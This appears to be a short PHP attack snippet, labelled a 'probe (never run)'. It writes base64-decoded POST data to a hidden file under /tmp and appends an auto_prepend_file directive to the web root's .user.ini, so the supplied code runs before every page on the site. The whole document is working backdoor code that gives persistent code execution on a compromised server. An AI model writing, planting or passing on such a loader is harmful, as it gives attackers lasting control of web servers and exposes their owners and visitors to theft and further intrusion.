<?php
// probe (never run): code written to a temp file, then .user.ini makes every page load it first
$p = '/tmp/.' . substr(md5($_SERVER['HTTP_HOST']), 0, 8);
$fp = fopen($p, 'w'); fwrite($fp, base64_decode($_POST['b'])); fclose($fp);
$ini = fopen($_SERVER['DOCUMENT_ROOT'] . '/.user.ini', 'a');
fwrite($ini, "\nauto_prepend_file=" . $p . "\n");
fclose($ini);
